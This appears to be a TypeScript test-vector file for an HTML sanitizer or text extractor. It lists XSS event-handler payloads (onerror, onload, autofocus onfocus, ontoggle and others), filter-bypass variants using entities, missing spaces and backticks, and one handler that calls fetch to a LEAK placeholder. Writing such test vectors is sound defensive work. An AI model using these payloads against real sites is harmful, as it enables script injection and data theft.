import { kind, LEAK, RUN, vector } from './vector';

const handler = (name: string, tag: string, text = 'The quays.') =>
  vector(name, `${tag}<p>The quays.</p>`, text);

/** Elements that run something when something happens, most of them without anybody doing anything. */
export const HANDLERS = kind('handler', [
  handler('a picture that fails', `<img src=x onerror=${RUN}>`),
  handler(
    'a picture that loads',
    `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${RUN}">`,
  ),
  handler('with no space before it', `<img/src="x"/onerror="${RUN}"/>`),
  handler('with entities', `<img src=x onerror="&#119;indow.ran&equals;1">`),
  handler('with entities without an end', `<img src=x onerror=&#0000119indow.ran=1>`),
  handler('in a graphic', `<svg onload=${RUN}>`),
  handler('of the page', `<body onload="${RUN}" onpageshow="${RUN}" onhashchange="${RUN}">`),
  handler('in focus', `<input autofocus onfocus="${RUN}">`),
  handler(
    'of words in focus',
    `<b tabindex=0 autofocus onfocus="${RUN}">Harbour.</b>`,
    'Harbour.\nThe quays.',
  ),
  handler(
    'of what can be edited',
    `<p contenteditable autofocus onfocus="${RUN}">Harbour.</p>`,
    'Harbour.\nThe quays.',
  ),
  handler(
    'when opened',
    `<details open ontoggle="${RUN}"><summary>Harbour</summary>Closed.</details>`,
    'Harbour\nClosed.\nThe quays.',
  ),
  handler('when a film fails', `<video><source onerror="${RUN}"></video>`),
  handler('when a sound fails', `<audio src=x onerror="${RUN}"></audio>`),
  handler(
    'when moving words start',
    `<marquee onstart="${RUN}">Harbour.</marquee>`,
    'Harbour.\nThe quays.',
  ),
  handler(
    'when a movement ends',
    `<p style="animation:x" onanimationend="${RUN}">Harbour.</p>`,
    'Harbour.\nThe quays.',
  ),
  handler(
    'when pointed at',
    `<p onpointerenter="${RUN}" onmouseover="${RUN}">Harbour.</p>`,
    'Harbour.\nThe quays.',
  ),
  handler(
    'when copied',
    `<p oncopy="${RUN}" onbeforecopy="${RUN}">Harbour.</p>`,
    'Harbour.\nThe quays.',
  ),
  handler(
    'when scrolled',
    `<div style="overflow:scroll" onscrollend="${RUN}">Harbour.</div>`,
    'Harbour.\nThe quays.',
  ),
  handler(
    'when seen',
    `<p style="content-visibility:auto" oncontentvisibilityautostatechange="${RUN}">Harbour.</p>`,
    'Harbour.\nThe quays.',
  ),
  handler(
    'of a popover',
    `<button popovertarget=a>Open</button><div popover id=a onbeforetoggle="${RUN}">Harbour.</div>`,
    'Harbour.\nThe quays.',
  ),
  handler('behind a quotation mark', `<img alt="a"onerror="${RUN}" src=x>`),
  handler('behind a grave accent', `<img src=\`x\` onerror=${RUN}>`),
  handler('behind a NUL’s picture', `<img src=x \u2400onerror=${RUN}>`),
  handler(
    'that sends words away',
    `<p onclick="fetch('${LEAK}')">Harbour.</p>`,
    'Harbour.\nThe quays.',
  ),
]);
